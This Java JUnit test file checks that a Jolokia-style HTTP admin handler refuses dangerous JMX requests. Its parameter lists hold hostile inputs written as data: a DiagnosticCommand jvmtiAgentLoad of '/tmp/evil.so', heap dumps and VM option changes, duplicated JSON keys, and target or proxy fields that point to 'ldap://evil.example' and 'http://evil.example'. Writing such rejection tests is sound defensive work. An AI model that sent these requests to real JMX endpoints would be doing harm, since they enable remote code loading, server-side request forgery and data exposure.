// SPDX-License-Identifier: Apache-2.0
package io.github.ckptctl.agent.http.server;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import javax.management.Attribute;
import javax.management.AttributeList;
import javax.management.DynamicMBean;
import javax.management.MBeanAttributeInfo;
import javax.management.MBeanInfo;
import javax.management.MBeanOperationInfo;
import javax.management.ObjectName;

import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

import static io.github.ckptctl.agent.http.server.EndpointFixture.BEAN;
import static io.github.ckptctl.agent.http.server.EndpointFixture.JOB_ID;
import static io.github.ckptctl.agent.http.server.EndpointFixture.exec;
import static io.github.ckptctl.agent.http.server.EndpointFixture.read;
import static io.github.ckptctl.agent.http.server.EndpointFixture.write;
import static org.assertj.core.api.Assertions.assertThat;

/** Test of an admin's access to MBeans of the JVM that can do harm, and to misleading names. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class JolokiaHttpHandlerForeignBeansTest {

    private static final String DIAGNOSTIC = "com.sun.management:type=DiagnosticCommand";
    private static final String HOT_SPOT = "com.sun.management:type=HotSpotDiagnostic";
    private static final String LOGGING = "java.util.logging:type=Logging";
    private static final String THREADING = "java.lang:type=Threading";

    private final List<String> touched = new ArrayList<>();

    private EndpointFixture fixture;

    @BeforeAll
    void start(@TempDir Path directory) throws Exception {
        // the widest pattern that a careless operator could configure
        List<ObjectName> readable =
                List.of(new ObjectName("java.lang:*"), new ObjectName(HOT_SPOT));
        fixture = new EndpointFixture(directory, options -> options.withReadable(readable));
        for (String name : List.of(DIAGNOSTIC, HOT_SPOT, LOGGING, THREADING)) {
            fixture.server.registerMBean(new Tempting(), new ObjectName(name));
        }
    }

    @AfterAll
    void stop() throws Exception {
        fixture.close();
    }

    @BeforeEach
    void forget() {
        fixture.coordinator.forget();
        touched.clear();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                DIAGNOSTIC + " | jvmtiAgentLoad | [[\"/tmp/evil.so\"]]",
                DIAGNOSTIC + " | vmSystemProperties | []",
                DIAGNOSTIC + " | compilerDirectivesAdd | [[\"/tmp/x\"]]",
                HOT_SPOT + " | dumpHeap | [\"/tmp/heap.hprof\", true]",
                HOT_SPOT + " | setVMOption | [\"HeapDumpPath\", \"/tmp\"]",
                LOGGING + " | setLoggerLevel | [\"\", \"ALL\"]",
                THREADING + " | dumpAllThreads | [true, true]",
                "JMImplementation:type=MBeanServerDelegate | toString | []",
                "java.lang:type=Memory | gc | []",
                "Catalina:type=MBeanFactory | createStandardContext | []"
            })
    void callsNothingOfTheirs(String bean, String operation, String arguments) throws Exception {
        // when
        HttpResponse<String> response = fixture.post(exec(bean, operation, arguments));

        // then
        assertThat(touched).isEmpty();
        fixture.assertRejected(response, 403);
    }

    @ParameterizedTest
    @CsvSource({
        DIAGNOSTIC + ", Anything",
        HOT_SPOT + ", DiagnosticOptions",
        LOGGING + ", LoggerNames",
        THREADING + ", ThreadCpuTimeEnabled",
        "java.lang:type=Memory, Verbose",
        "JMImplementation:type=MBeanServerDelegate, MBeanServerId"
    })
    void writesNothingOfTheirs(String bean, String attribute) throws Exception {
        // when
        HttpResponse<String> response = fixture.post(write(bean, attribute, "true"));

        // then
        assertThat(touched).isEmpty();
        fixture.assertRejected(response, 403);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                DIAGNOSTIC,
                LOGGING,
                "JMImplementation:type=MBeanServerDelegate",
                "com.sun.management:*",
                "*:type=DiagnosticCommand",
                "java.lang:*",
                "java.*:type=Threading",
                "?link.checkpointing:*",
                "flink.checkpointin?:*",
                "*:*"
            })
    void readsNothingThatIsNotNamed(String bean) throws Exception {
        // when
        HttpResponse<String> response = fixture.post(read(bean, "Anything"));

        // then
        assertThat(touched).isEmpty();
        fixture.assertRejected(response, 403);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "flink.checkpointing:type=CheckpointCoordinator,job_name=*,job_id=" + JOB_ID,
                "flink.checkpointing:type=CheckpointCoordinator,job_id=*",
                "flink.checkpointing:type=CheckpointCoordinator,job_id=" + JOB_ID + ",*",
                "flink.checkpointing:type=Checkpoint?oordinator,job_id=" + JOB_ID,
                "flink.*:type=CheckpointCoordinator,job_id=" + JOB_ID
            })
    void changesNothingByAPattern(String bean) throws Exception {
        // when
        HttpResponse<String> written = fixture.post(write(bean, "Timeout", "777"));
        HttpResponse<String> called = fixture.post(exec(bean, "resetSettings", "[]"));

        // then
        assertThat(written.statusCode()).isEqualTo(403);
        fixture.assertRejected(called, 403);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "resetSettings(long) | [1]",
                "resetSettings( ) | []",
                "resetSettings () | []",
                "resetSettings()() | []",
                "RESETSETTINGS | []",
                "resetSettings; | []",
                "setTimeout | [777]",
                "setTimeout(long) | [777]",
                "getClass | []",
                "notifyAll | []",
                "invoke | []",
                "suspend(java.lang.Object) | [\"ALL\"]",
                "suspend(io.github.ckptctl.mbeans.SuspensionMode) | [\"ALL\"]"
            })
    void callsNothingUnderAnOddSignature(String operation, String arguments) throws Exception {
        // when
        HttpResponse<String> response = fixture.post(exec(BEAN, operation, arguments));

        // then
        fixture.assertRejected(response, 404);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"type\":\"read\",\"type\":\"write\",MBEAN,\"attribute\":\"Timeout\",\"value\":1}",
                "{\"type\":\"write\",MBEAN,MBEAN,\"attribute\":\"Timeout\",\"value\":1}",
                "{\"type\":\"write\",MBEAN,\"attribute\":\"Revision\",\"attribute\":\"Timeout\",\"value\":1}",
                "{\"type\":\"write\",MBEAN,\"attribute\":\"Timeout\",\"value\":1,\"valu\\u0065\":2}",
                "{\"type\":\"exec\",MBEAN,\"operation\":\"diagnose\",\"operation\":\"resetSettings\"}",
                "{\"type\":\"exec\",MBEAN,\"operation\":\"updateSettings\",\"arguments\":[{\"Timeout\":1,\"Timeout\":2},\"\",0,-1]}",
                "{\"type\":\"read\",MBEAN,\"config\":{\"maxDepth\":1,\"maxDepth\":2}}"
            })
    void rejectsKeysThatAreThereTwice(String body) throws Exception {
        // when
        HttpResponse<String> response =
                fixture.post(body.replace("MBEAN", "\"mbean\":\"" + BEAN + "\""));

        // then
        fixture.assertRejected(response, 400);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"target\":{\"url\":\"service:jmx:rmi:///jndi/ldap://evil.example/x\"}",
                "\"target\":{\"url\":\"service:jmx:rmi:///jndi/rmi://127.0.0.1:9999/jmxrmi\","
                        + "\"user\":\"a\",\"password\":\"b\"}",
                "\"target\":null",
                "\"target\":\"service:jmx:jmxmp://127.0.0.1\"",
                "\"Target\":{}",
                "\"proxy\":{\"url\":\"http://evil.example\"}",
                "\"url\":\"http://evil.example\"",
                "\"provider\":\"proxy\"",
                "\"client\":\"x\",\"command\":\"register\"",
                "\"options\":{\"ignoreErrors\":true}"
            })
    void goesToNoOtherJvm(String field) throws Exception {
        // when
        HttpResponse<String> written =
                fixture.post(write(BEAN, "Timeout", "777").replace("}", "," + field + "}"));
        HttpResponse<String> readAt =
                fixture.post(read(BEAN, "Timeout").replace("\"}", "\"," + field + "}"));

        // then
        assertThat(readAt.statusCode()).isEqualTo(400);
        fixture.assertRejected(written, 400);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "proxy@flink.checkpointing:type=CheckpointCoordinator,job_id=" + JOB_ID,
                "jmx@java.lang:type=Memory",
                "spring@flink.checkpointing:type=CheckpointAgent",
                "@flink.checkpointing:type=CheckpointAgent"
            })
    void goesToNoOtherRealm(String bean) throws Exception {
        // when
        HttpResponse<String> response = fixture.post(write(bean, "Timeout", "777"));

        // then
        fixture.assertRejected(response, 400);
    }

    /** MBean that has every requested attribute and operation, and records the requests. */
    private final class Tempting implements DynamicMBean {

        @Override
        public Object getAttribute(String attribute) {
            touched.add("get " + attribute);
            return "secret";
        }

        @Override
        public void setAttribute(Attribute attribute) {
            touched.add("set " + attribute);
        }

        @Override
        public AttributeList getAttributes(String[] attributes) {
            touched.add("get all");
            return new AttributeList();
        }

        @Override
        public AttributeList setAttributes(AttributeList attributes) {
            touched.add("set all");
            return attributes;
        }

        @Override
        public Object invoke(String operation, Object[] arguments, String[] signature) {
            touched.add("invoke " + operation);
            return "done";
        }

        @Override
        public MBeanInfo getMBeanInfo() {
            return new MBeanInfo(
                    "Tempting",
                    "for tests",
                    new MBeanAttributeInfo[] {
                        new MBeanAttributeInfo("Anything", "boolean", "any", true, true, false)
                    },
                    null,
                    new MBeanOperationInfo[] {
                        new MBeanOperationInfo(
                                "vmSystemProperties", "any", null, "java.lang.String", 1)
                    },
                    null);
        }
    }
}
